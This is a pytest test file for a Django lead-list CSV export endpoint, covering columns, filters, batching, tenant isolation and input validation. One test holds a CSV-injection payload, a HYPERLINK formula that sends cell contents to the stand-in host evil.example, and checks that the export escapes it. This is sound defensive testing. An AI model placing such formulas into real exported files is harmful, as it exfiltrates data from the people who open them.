"""`GET /api/leads/export`: the lead list as a CSV file, whole, whatever its length and whatever stands in it."""

import csv
from datetime import UTC, datetime
from io import StringIO
from unittest import mock

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from ingest.models import Lead, Project
from ingest.services.projects import create_project
from scoring import lead_table
from tests.builders import Answer, Caller, caller_of, drain_all, make_member, problem_of
from tests.scoring.builders import put_in_force, scorecard

pytestmark = pytest.mark.django_db

PLAIN = ["id", "name", "email", "company", "score", "stage", "grade", "owner", "lastEventAt", "createdAt"]


@pytest.fixture
def project() -> Project:
    return create_project("Acme", now=timezone.now())


@pytest.fixture
def caller(project: Project) -> Caller:
    return caller_of(project)


def text_of(answer: Answer) -> str:
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()


def rows_of(answer: Answer) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text_of(answer), newline=""), strict=True))


def names(answer: Answer) -> list[str]:
    return [row["name"] for row in rows_of(answer)]


def make_leads(caller: Caller, *scored: tuple[str, str]) -> None:
    for name, event_type in scored:
        lead_id = caller.post("/api/leads", {"name": name}).json()["id"]
        caller.track(event_type, leadId=lead_id)
    drain_all()


def test_a_lead_is_a_line_with_what_the_list_says_of_it(caller: Caller, project: Project) -> None:
    lead_id = caller.post("/api/leads", {"name": "Ada", "email": "ada@example.com", "company": "Engines"}).json()["id"]
    caller.track("signup", leadId=lead_id, timestamp="2026-03-01T12:00:00Z")
    drain_all()
    Lead.objects.update(owner=make_member(project, "dana"))

    answer = caller.get("/api/leads/export")

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="leads.csv"'
    (row,) = rows_of(answer)
    assert list(row) == PLAIN
    assert (
        row.items()
        >= {
            "id": lead_id,
            "name": "Ada",
            "email": "ada@example.com",
            "company": "Engines",
            "score": "20",
            "stage": "warm",
            "grade": "",
            "owner": "dana",
            "lastEventAt": "2026-03-01T12:00:00Z",
        }.items()
    )
    assert datetime.fromisoformat(row["createdAt"]).tzinfo == UTC


def test_every_further_scorecard_has_a_score_and_a_stage_and_the_grade_is_there(
    caller: Caller, project: Project
) -> None:
    fit = {"name": "Fit", "basis": "traits", "rules": [{"name": "Pro", "event": "*", "points": 60}]}
    put_in_force(project, scorecard(signup=20), fit)
    make_leads(caller, ("Ada", "signup"))

    (row,) = rows_of(caller.get("/api/leads/export"))

    lead = caller.get("/api/leads").json()["results"][0]
    assert {card["name"]: (card["score"], card["stage"]) for card in lead["scorecards"]} == {
        "Engagement": (float(row["score"]), row["stage"]),
        "Fit": (float(row["Fit score"]), row["Fit stage"]),
    }
    assert row["grade"] == lead["grade"] != ""


@pytest.mark.parametrize(
    "query",
    [
        "?ordering=-score",
        "?ordering=score",
        "?ordering=createdAt",
        "",
        "?stage=warm",
        "?q=A",
        "?q=nobody",
        "?stage=hot&q=b",
    ],
)
def test_filters_and_order_are_those_of_the_list(caller: Caller, query: str) -> None:
    make_leads(caller, ("Ada", "signup"), ("Bob", "demo_request"), ("Eva", "signup"), ("Carl", "page_view"))

    listed = [lead["name"] for lead in caller.get(f"/api/leads{query}").json()["results"]]

    assert names(caller.get(f"/api/leads/export{query}")) == listed


@pytest.mark.parametrize("ordering", ["-score", "-createdAt"])
def test_batches_leave_nobody_out_and_cost_a_fixed_number_of_queries_each(caller: Caller, ordering: str) -> None:
    make_leads(caller, *((f"Lead {number}", "signup") for number in range(9)))
    text_of(caller.get("/api/leads/export"))  # compiles the rules, once per process

    counts = []
    for size in (9, 3):
        with mock.patch.object(lead_table, "BATCH", size), CaptureQueriesContext(connection) as queries:
            assert sorted(names(caller.get(f"/api/leads/export?ordering={ordering}"))) == [
                f"Lead {n}" for n in range(9)
            ]
        counts.append(len(queries))

    once, thrice = counts
    per_batch = (thrice - once) / 2
    assert per_batch == 5  # the version, the scores, who was merged, the last 24 hours, the last events


def test_chosen_traits_are_columns(caller: Caller) -> None:
    caller.post("/api/leads", {"name": "Ada", "traits": {"plan": "pro", "seats": 5, "tags": ["a", "b"]}})
    drain_all()

    (row,) = rows_of(caller.get("/api/leads/export?traits=plan,%20seats,tags,,plan,none"))

    assert [name for name in row if name not in PLAIN] == ["traits.plan", "traits.seats", "traits.tags", "traits.none"]
    assert (row["traits.plan"], row["traits.seats"], row["traits.none"]) == ("pro", "5", "")
    assert row["traits.tags"] == '["a", "b"]'


def test_what_strangers_wrote_is_no_formula(caller: Caller) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    caller.post("/api/leads", {"name": hostile, "company": "@SUM(1)", "traits": {"plan": "+1", "debt": -5}})
    drain_all()

    (row,) = rows_of(caller.get("/api/leads/export?traits=plan,debt,=1"))

    assert (row["name"], row["company"]) == (f"'{hostile}", "'@SUM(1)")
    assert (row["traits.plan"], row["traits.debt"]) == ("'+1", "-5")


def test_the_byte_order_mark_comes_when_asked_for(caller: Caller) -> None:
    assert text_of(caller.get("/api/leads/export?bom=true")).startswith("\ufeffid,")
    assert text_of(caller.get("/api/leads/export")).startswith("id,")


@pytest.mark.parametrize(
    "query", ["?ordering=name", "?bom=yes", "?q=" + "x" * 301, "?traits=" + ",".join(map(str, range(51)))]
)
def test_what_makes_no_sense_is_400(caller: Caller, query: str) -> None:
    assert problem_of(caller.get(f"/api/leads/export{query}"))["status"] == 400


def test_no_lead_of_another_project_is_in_it(caller: Caller) -> None:
    make_leads(caller_of(create_project("Theirs", now=timezone.now())), ("Secret Person", "signup"))

    assert names(caller.get("/api/leads/export")) == []
